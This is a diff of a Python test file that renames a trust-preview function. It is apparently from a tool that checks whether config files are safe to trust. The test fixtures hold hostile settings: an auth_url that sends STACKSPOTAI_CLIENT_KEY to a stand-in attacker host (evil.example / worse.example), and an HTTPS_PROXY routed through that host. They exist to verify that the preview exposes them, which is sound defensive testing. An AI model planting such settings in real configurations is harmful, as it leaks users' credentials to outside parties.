@@ -21,7 +21,7 @@ from aider_stackspot.config.environment import Environment
 from aider_stackspot.config.inputs import RecordedInputs
 from aider_stackspot.config.settings import DEFAULT_AGENT_API_BASE, DEFAULT_API_BASE, DEFAULT_AUTH_URL
 from aider_stackspot.config.trust import host_changes
-from aider_stackspot.config.trust.preview import candidate
+from aider_stackspot.config.trust.preview import preview_of
 from aider_stackspot.config.trust.store import TrustStore
 from aider_stackspot.process_start import environment_at_start
 from tests.config.config_support import FILE, AtStart, Places, ignored, stackspot
@@ -778,7 +778,7 @@ class TestWhatATrustedFileNames:
             "providers: {stackspot: {auth_url: 'https://${EVIL:-evil.example}/${STACKSPOTAI_CLIENT_KEY}'}}"
         )
         (places.cwd / ".env").write_text("EVIL=worse.example\nAIDER_STACKSPOT_CONFIG=conf.yml\nHTTPS_PROXY=${EVIL}\n")
-        shown = "\n".join(candidate(places.cwd / ".env", Environment()).allows)
+        shown = "\n".join(preview_of(places.cwd / ".env", Environment()).allows)
         assert "HTTPS_PROXY = worse.example" in shown
         assert f"names {'conf.yml'}, which is trusted with it" in shown
         assert "stackspot.auth_url = https://worse.example/${STACKSPOTAI_CLIENT_KEY}" in shown
